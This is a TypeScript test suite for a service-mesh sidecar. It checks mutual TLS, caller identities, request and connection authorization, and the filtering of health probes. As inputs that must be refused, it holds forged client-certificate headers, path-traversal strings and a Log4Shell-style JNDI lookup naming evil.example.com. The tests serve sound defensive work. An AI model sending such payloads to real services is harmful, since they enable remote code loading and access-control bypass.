// Who gets to an application behind its sidecar, and what those are told who do not: mutual TLS modes, identities of both
// sides, and authorization by request (HTTP) and by connection (TCP).
import { connect as tlsConnect } from 'node:tls';
import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import type { InboundPortIr } from '../../operator/ir/inbound.ts';
import type { WorkloadIr } from '../../operator/ir/mesh-ir.ts';
import type { ServicePortIr } from '../../operator/ir/service.ts';
import { refusedHeader, replyMarkers } from '../../operator/envoy/resources/names.ts';
import { type Seen, startApplication, startGreeter } from '../support/data-plane/applications.ts';
import {
  type Call,
  call,
  converse,
  listenOnly,
  ofGrpcKubelet,
  ofKubelet,
  seenBy,
} from '../support/data-plane/callers.ts';
import { Closing } from '../support/data-plane/closing.ts';
import { type Sidecar, startSidecars } from '../support/data-plane/sidecars.ts';
import { freePort } from '../support/kubernetes/free-port.ts';
import {
  noRules,
  sampleEndpoint,
  sampleIdentity,
  sampleInbound,
  sampleMesh,
  sampleProbe,
  sampleCaller,
  sampleRequest,
  sampleRule,
  sampleService,
  sampleWorkload,
  spiffeId,
  withAllLines,
} from '../support/mesh-samples.ts';

const greeting = 'welcome';
const closing = new Closing();
afterAll(() => closing.close());

/** Former: the stranger and a friend with certificates of the trust domain that the Mesh had before. */
type Caller = 'friend' | 'stranger' | 'former-stranger' | 'former-friend';
/** `friend/strict` → where that caller's application reaches that service. */
const at = new Map<string, number>();
/** Service → the port of the server's sidecar, for those who come without one. */
const direct = new Map<string, number>();
let server: Sidecar;

const onlyFriend = { deny: [], allow: [sampleRule('shop/guard/friend', ['friend'])] };
const notStranger = { deny: [sampleRule('shop/guard/stranger', ['stranger'])], allow: 'all' as const };
const notStrangerNorUnknown = {
  deny: [{ ...sampleRule('shop/guard/stranger', ['stranger']), unidentified: true }],
  allow: 'all' as const,
};
const notNamespaceBank = {
  deny: [
    {
      ...sampleRule('shop/guard/bank', []),
      callers: [sampleCaller({ spiffePrefixes: ['spiffe://cluster.local/ns/bank/'] })],
    },
  ],
  allow: 'all' as const,
};
const readReviews = {
  deny: [
    sampleRule('shop/guard/secret', 'anyone', [
      sampleRequest({ paths: [{ type: 'PathPrefix', value: '/reviews/secret', ignoreCase: false }] }),
    ]),
  ],
  allow: [
    sampleRule(
      'shop/guard/read',
      ['friend'],
      [
        sampleRequest({
          methods: ['GET'],
          paths: [{ type: 'PathPrefix', value: '/reviews', ignoreCase: false }],
        }),
      ],
    ),
  ],
};

const probes = [
  sampleProbe('/healthz'),
  sampleProbe('/ready?full=1'),
  sampleProbe('/declared', {
    host: 'shop.example.com',
    headers: { authorization: 'Basic cHJvYmU6', 'user-agent': '', 'x-forwarded-proto': 'https' },
  }),
  sampleProbe('/grpc.health.v1.Health/Check', { method: 'POST' }),
];

const ports: Readonly<Record<string, Partial<InboundPortIr>>> = {
  strict: { mtls: 'Strict' },
  permissive: { mtls: 'Permissive' },
  disabled: { mtls: 'Disabled' },
  guarded: { mtls: 'Permissive', authorization: readReviews },
  'not-stranger': { mtls: 'Permissive', authorization: notStranger },
  'not-stranger-nor-unknown': { mtls: 'Permissive', authorization: notStrangerNorUnknown },
  'not-bank': { mtls: 'Permissive', authorization: notNamespaceBank },
  'allow-nothing': { mtls: 'Strict', authorization: { deny: [], allow: [] } },
  'tcp-strict': { protocol: 'TCP', mtls: 'Strict' },
  'tcp-permissive': { protocol: 'TCP', mtls: 'Permissive' },
  'tcp-disabled': { protocol: 'TCP', mtls: 'Disabled' },
  'tcp-only-friend': { protocol: 'TCP', mtls: 'Permissive', authorization: onlyFriend },
  'tcp-not-stranger': { protocol: 'TCP', mtls: 'Strict', authorization: notStranger },
  'tcp-not-stranger-nor-unknown': {
    protocol: 'TCP',
    mtls: 'Permissive',
    authorization: notStrangerNorUnknown,
  },
  'tcp-closed': { protocol: 'TCP', mtls: 'Disabled', authorization: onlyFriend },
  'probed-strict': { mtls: 'Strict', probes },
  'probed-guarded': { mtls: 'Permissive', authorization: readReviews, probes },
  'probed-tcp-strict': { protocol: 'TCP', mtls: 'Strict', probes },
  'probed-tcp-guarded': { protocol: 'TCP', mtls: 'Permissive', authorization: onlyFriend, probes },
  'probed-tcp-closed': { protocol: 'TCP', mtls: 'Disabled', authorization: onlyFriend, probes },
};
/** As gRPC asks. */
const grpc = { method: 'POST', path: '/grpc.health.v1.Health/Check', headers: ofGrpcKubelet };
const probed = Object.keys(ports).filter((name) => name.startsWith('probed-'));

beforeAll(async () => {
  const echo = await startApplication('echo', closing, (seen, response) => {
    for (const name of [...replyMarkers, refusedHeader]) response.setHeader(name, 'a lie');
    response.end(JSON.stringify(seen));
  });
  const greeter = await startGreeter(greeting, closing);
  const named = await Promise.all(
    Object.entries(ports).map(async ([name, parts]) => {
      direct.set(name, await freePort());
      const application = parts.protocol === 'TCP' && parts.probes === undefined ? greeter : echo;
      return { name, inbound: sampleInbound(direct.get(name) ?? 0, application, parts) };
    }),
  );
  const service = (name: string, port: InboundPortIr, identity: string | null): ServicePortIr =>
    sampleService(`shop/${name}/80`, {
      protocol: port.protocol,
      peerIdentities: identity === null ? [] : [identity],
      endpoints: [sampleEndpoint(port.port, { mtls: port.mtls !== 'Disabled' })],
    });
  const strict = named[0]?.inbound as InboundPortIr;
  const services = [
    ...named.map(({ name, inbound }) => service(name, inbound, spiffeId('server'))),
    service('impostor', strict, spiffeId('somebody-else')),
    service('unknown-identity', strict, null),
  ];
  const caller = async (name: Caller, spiffe = spiffeId(name)): Promise<WorkloadIr> => {
    const bindings = await Promise.all(
      services.map(async ({ key, service: to, protocol }) => {
        const port = await freePort();
        at.set(`${name}/${to}`, port);
        return { address: '127.0.0.1', port, service: key, protocol };
      }),
    );
    return sampleWorkload(name, { bindings, identity: { ...sampleIdentity(name), spiffeId: spiffe } });
  };
  const inbound = named.map((it) => it.inbound);
  const workloads = [
    await caller('friend'),
    await caller('stranger'),
    await caller('former-stranger', 'spiffe://former.example/ns/shop/sa/stranger'),
    await caller('former-friend', 'spiffe://former.example/ns/bank/sa/friend'),
    sampleWorkload('server', { inbound, otherInbound: { mtls: 'Strict', authorization: noRules } }),
  ];
  const sidecars = await startSidecars(withAllLines(sampleMesh({ services, workloads })), closing);
  server = sidecars.get('server') as Sidecar;
});

const via = (caller: Caller, service: string): number => at.get(`${caller}/${service}`) ?? 0;
const straightTo = (service: string): number => direct.get(service) ?? 0;

describe('mutual TLS on HTTP ports', () => {
  test.each(['strict', 'permissive'])(
    '%s: the application learns who calls, and cannot be lied to',
    async (name) => {
      const lie = { 'x-forwarded-client-cert': `URI=${spiffeId('admin')}` };
      const seen = await seenBy(via('friend', name), { headers: lie });

      expect(seen.headers['x-forwarded-client-cert']).toContain(`URI=${spiffeId('friend')}`);
      expect(seen.headers['x-forwarded-client-cert']).not.toContain('admin');
    },
  );

  test.each([
    { from: 'the mesh', port: (): number => via('friend', 'strict') },
    { from: 'plaintext', port: (): number => straightTo('permissive') },
  ])('a caller from $from cannot spell the headers of sidecars otherwise', async ({ port }) => {
    const lies = Object.fromEntries(
      [
        'x_forwarded_client_cert',
        'x-forwarded_client-cert',
        'X_Forwarded-Client_Cert',
        'x_meshwright_destination',
      ].map((name) => [name, `URI=${spiffeId('admin')}`]),
    );
    const seen = await seenBy(port(), { headers: { ...lies, x_request_colour: 'blue' } });

    expect(JSON.stringify(seen.headers)).not.toContain('admin');
    expect(seen.headers['x_request_colour']).toBe('blue');
  });

  test('Strict tells plaintext callers what is required', async () => {
    const answer = await call(straightTo('strict'));

    expect(answer.status).toBe(403);
    expect(answer.headers['x-meshwright-refused']).toBe('mtls-required');
    expect(answer.body).toContain('mutual TLS only');
  });

  test.each(['permissive', 'disabled'])(
    '%s serves plaintext callers, and removes what they claim',
    async (name) => {
      const lie = { 'x-forwarded-client-cert': `URI=${spiffeId('admin')}` };
      const seen = await seenBy(straightTo(name), { headers: lie });

      expect(seen.headers['x-forwarded-client-cert']).toBeUndefined();
    },
  );

  test('an application cannot speak with the words of sidecars', async () => {
    const answers = [
      await call(straightTo('permissive')),
      await call(straightTo('probed-strict'), { path: '/healthz', headers: ofKubelet }),
    ];

    for (const { status, headers } of answers) {
      expect(status).toBe(200);
      expect(JSON.stringify(headers)).not.toContain('a lie');
    }
  });

  test('Disabled is called in plaintext through the caller’s sidecar', async () => {
    const seen = await seenBy(via('friend', 'disabled'));

    expect(seen.app).toBe('echo');
  });

  test.each(['impostor', 'unknown-identity'])(
    'a server without a believed identity is not talked to: %s',
    async (name) => {
      const answer = await call(via('friend', name));

      expect(answer.status).toBe(503);
    },
  );

  test('a TLS client that is not of the mesh finds nobody on a Strict port, and the log says so', async () => {
    const socket = tlsConnect({ host: '127.0.0.1', port: straightTo('strict'), rejectUnauthorized: false });
    const failed = new Promise((resolve) => {
      socket.once('error', resolve);
    });

    expect(await failed).toMatchObject({ code: 'ECONNRESET' });
    expect(await server.logged({ log: 'refused', details: 'filter_chain_not_found' })).toMatchObject({
      response_flags: 'NR',
    });
  });
});

describe('authorization of requests', () => {
  test.each([
    { it: 'what a rule allows', path: '/reviews/1', status: 200 },
    { it: 'the allowed path itself', path: '/reviews', status: 200 },
    { it: 'a path that only begins alike', path: '/reviews-old/1', status: 403 },
    { it: 'a path that only begins like the denied one', path: '/reviews/secrets', status: 200 },
    { it: 'another method', method: 'POST', path: '/reviews/1', status: 403 },
    { it: 'another path', path: '/ratings/1', status: 403 },
    { it: 'what a rule denies', path: '/reviews/secret/1', status: 403 },
    { it: 'the denied path in another spelling', path: '/reviews/x/..%2f/%73ecret', status: 403 },
    { it: 'the denied path with more slashes', path: '/reviews//secret', status: 403 },
    { it: 'a way out of the allowed path', path: '/reviews/../ratings', status: 403 },
  ])('$it: $status', async ({ status, path, method = 'GET' }) => {
    const answer = await call(via('friend', 'guarded'), { path, method });

    expect(answer.status).toBe(status);
  });

  test('refuses an identity that no rule names, and callers without one', async () => {
    const stranger = await call(via('stranger', 'guarded'), { path: '/reviews/1' });
    const plaintext = await call(straightTo('guarded'), { path: '/reviews/1' });

    expect([stranger.status, plaintext.status]).toEqual([403, 403]);
  });

  test.each([
    { service: 'not-stranger', plaintext: 200 },
    { service: 'not-stranger-nor-unknown', plaintext: 403 },
  ])('a rule that names whom it refuses, at callers that come in plaintext: $service', async (asked) => {
    const friend = await call(via('friend', asked.service));
    const stranger = await call(via('stranger', asked.service));
    const plaintext = await call(straightTo(asked.service));

    expect([friend.status, stranger.status, plaintext.status]).toEqual([200, 403, asked.plaintext]);
  });

  test('a rule that names whom it refuses holds for certificates of a former trust domain, which are valid until they expire', async () => {
    const statuses = async (caller: Caller, services: readonly string[]): Promise<readonly number[]> => {
      const answers = await Promise.all(services.map((service) => call(via(caller, service))));
      return answers.map(({ status }) => status);
    };

    expect(await statuses('former-stranger', ['not-stranger', 'not-bank'])).toEqual([403, 200]);
    expect(await statuses('former-friend', ['not-stranger', 'not-bank'])).toEqual([200, 403]);
    expect(await listenOnly(via('former-stranger', 'tcp-not-stranger'), greeting.length)).toBe('');
    expect(await listenOnly(via('former-friend', 'tcp-not-stranger'), greeting.length)).toBe(greeting);
  });

  test('an application’s own TLS does not get past a rule that refuses unknown callers', async () => {
    const port = straightTo('not-stranger-nor-unknown');
    const socket = tlsConnect({ host: '127.0.0.1', port, rejectUnauthorized: false });
    const failed = new Promise((resolve) => {
      socket.once('error', resolve);
    });

    expect(await failed).toMatchObject({ code: 'ECONNRESET' });
  });

  test('with no allow rule at all refuses everybody', async () => {
    expect((await call(via('friend', 'allow-nothing'))).status).toBe(403);
  });

  test('names the rule that refused in the access log, with the caller', async () => {
    await call(via('friend', 'guarded'), { path: '/reviews/secret/logged' });

    expect(await server.logged({ path: '/reviews/secret/logged' })).toMatchObject({
      direction: 'inbound',
      response_code: 403,
      response_code_details: 'rbac_access_denied_matched_policy[shop/guard/secret]',
      peer: spiffeId('friend'),
    });
  });

  test('names the rule that allowed in the access log', async () => {
    await call(via('friend', 'guarded'), { path: '/reviews/allowed' });

    const { authorization } = await server.logged({ path: '/reviews/allowed' });
    expect(authorization).toMatchObject({ allow_enforced_effective_policy_id: 'shop/guard/read' });
  });
});

describe.each(probed)('probes of a port, in plaintext and without an identity: %s', (name) => {
  // Where rules look at requests, it is a rule that refuses.
  const isToldWhy = name !== 'probed-guarded';

  test.each([
    { it: 'the probe', path: '/healthz', status: 200 },
    { it: 'a probe that has a query', path: '/ready?full=1', status: 200 },
    { it: 'the probe with a query that it does not have', path: '/healthz?full=1', status: 403 },
    { it: 'a probe without its query', path: '/ready', status: 403 },
    { it: 'the probe with a body', path: '/healthz', body: 'payload', status: 413 },
    {
      it: 'the probe with chunks',
      path: '/healthz',
      headers: { 'transfer-encoding': 'chunked' },
      body: 'payload',
      status: 413,
    },
    {
      it: 'the probe as a tunnel',
      path: '/healthz',
      headers: { connection: 'upgrade', upgrade: 'websocket' },
      status: 403,
    },
    { it: 'the probe of a client', path: '/healthz', headers: { 'user-agent': 'curl/8.0' }, status: 403 },
    {
      it: 'the probe of a client that says more',
      path: '/healthz',
      headers: { 'user-agent': 'kube-probe/1.34 ${jndi:ldap://evil.example.com}' },
      status: 403,
    },
    { it: 'the probe for another type', path: '/healthz', headers: { accept: 'text/csv' }, status: 403 },
    { it: 'the probe of another host', path: '/healthz', headers: { host: 'admin.local' }, status: 403 },
    { it: 'the probe of an IPv6 pod', path: '/healthz', headers: { host: '[fd00::1]:8080' }, status: 200 },
    { it: 'a probe without its headers', path: '/declared', status: 403 },
    { it: 'a gRPC probe', ...grpc, status: 200 },
    { it: 'its path by another method', method: 'POST', path: '/healthz', status: 403 },
    { it: 'what lies below', path: '/healthz/x', status: 403 },
    { it: 'another path', path: '/reviews/1', status: 403 },
    { it: 'a way out', path: '/healthz/../reviews/1', status: 403 },
  ])('$it: $status', async ({ status, headers = {}, ...asked }: Call & { status: number }) => {
    const answer = await call(straightTo(name), { ...asked, headers: { ...ofKubelet, ...headers } });

    const isTold = String(answer.headers['x-meshwright-refused']).endsWith('-required');
    expect([answer.status, isTold]).toEqual([status, status === 403 && isToldWhy]);
  });

  test('the application sees what a kubelet says and the pod declares, and nothing else', async () => {
    const more = {
      'x-original-url': '/reviews/1',
      'x-http-method-override': 'DELETE',
      cookie: 'session=1',
      'user-agen': '1',
      'accept-language': 'de',
      x: 'y',
    };
    const declared = {
      host: 'shop.example.com',
      authorization: 'Basic cHJvYmU6',
      'x-forwarded-proto': 'https',
    };
    const seen = async (asked: Call): Promise<Seen> => seenBy(straightTo(name), asked);

    const plain = await seen({ path: '/healthz', headers: { ...ofKubelet, authorization: 'no', ...more } });
    const own = await seen({ path: '/declared', headers: { accept: '*/*', ...declared, ...more } });
    const called = await seen({ ...grpc, headers: { ...grpc.headers, 'grpc-timeout': '1S', ...more } });

    const names = [plain, own, called].map(({ headers }) => Object.keys(headers).toSorted());
    expect(names).toEqual([
      ['accept', 'host', 'user-agent'],
      ['accept', 'authorization', 'host', 'x-forwarded-proto'],
      ['content-length', 'content-type', 'grpc-timeout', 'host', 'te', 'user-agent'],
    ]);
  });

  test('a gRPC probe that is too large is refused, as gRPC refuses', async () => {
    const { headers } = await call(straightTo(name), { ...grpc, body: 'x'.repeat(1025) });

    // RESOURCE_EXHAUSTED or UNKNOWN: of the sidecar, since the application knows no gRPC.
    expect(Number(headers['grpc-status'])).toBeGreaterThan(0);
  });

  test('callers with an identity are served, where there are any', async () => {
    const status = ports[name]?.mtls === 'Disabled' ? 403 : 200;

    expect((await call(via('friend', name), { path: '/reviews/1' })).status).toBe(status);
  });
});

describe('TCP ports', () => {
  test.each([
    { service: 'tcp-strict', heard: greeting },
    { service: 'tcp-permissive', heard: greeting },
    { service: 'tcp-disabled', heard: greeting },
    { service: 'tcp-only-friend', heard: greeting },
    { service: 'tcp-not-stranger', heard: greeting },
    { service: 'tcp-not-stranger-nor-unknown', heard: greeting },
    { service: 'tcp-closed', heard: '' },
  ])('through the sidecar of an allowed caller: $service hears "$heard"', async ({ service, heard }) => {
    expect(await listenOnly(via('friend', service), greeting.length)).toBe(heard);
  });

  test.each([
    { service: 'tcp-permissive', heard: greeting },
    { service: 'tcp-disabled', heard: greeting },
    { service: 'tcp-only-friend', heard: '' },
    { service: 'tcp-not-stranger-nor-unknown', heard: '' },
    { service: 'tcp-closed', heard: '' },
  ])('in plaintext: $service hears "$heard"', async ({ service, heard }) => {
    expect(await listenOnly(straightTo(service), greeting.length)).toBe(heard);
  });

  test('in plaintext to a Strict port: cut off with nothing heard', async () => {
    expect(await converse(straightTo('tcp-strict'), 'hello')).toBe('');
  });

  test.each(['tcp-only-friend', 'tcp-not-stranger'])(
    'a caller that is not allowed hears not one byte, and the log says whose handshake failed: %s',
    async (service) => {
      expect(await listenOnly(via('stranger', service), greeting.length)).toBe('');

      const line = await server.logged({
        log: 'connection',
        peer: spiffeId('stranger'),
        destination_address: `127.0.0.1:${straightTo(service)}`,
      });
      expect(line['downstream_tls_failure']).toContain('SAN_matcher');
    },
  );
});
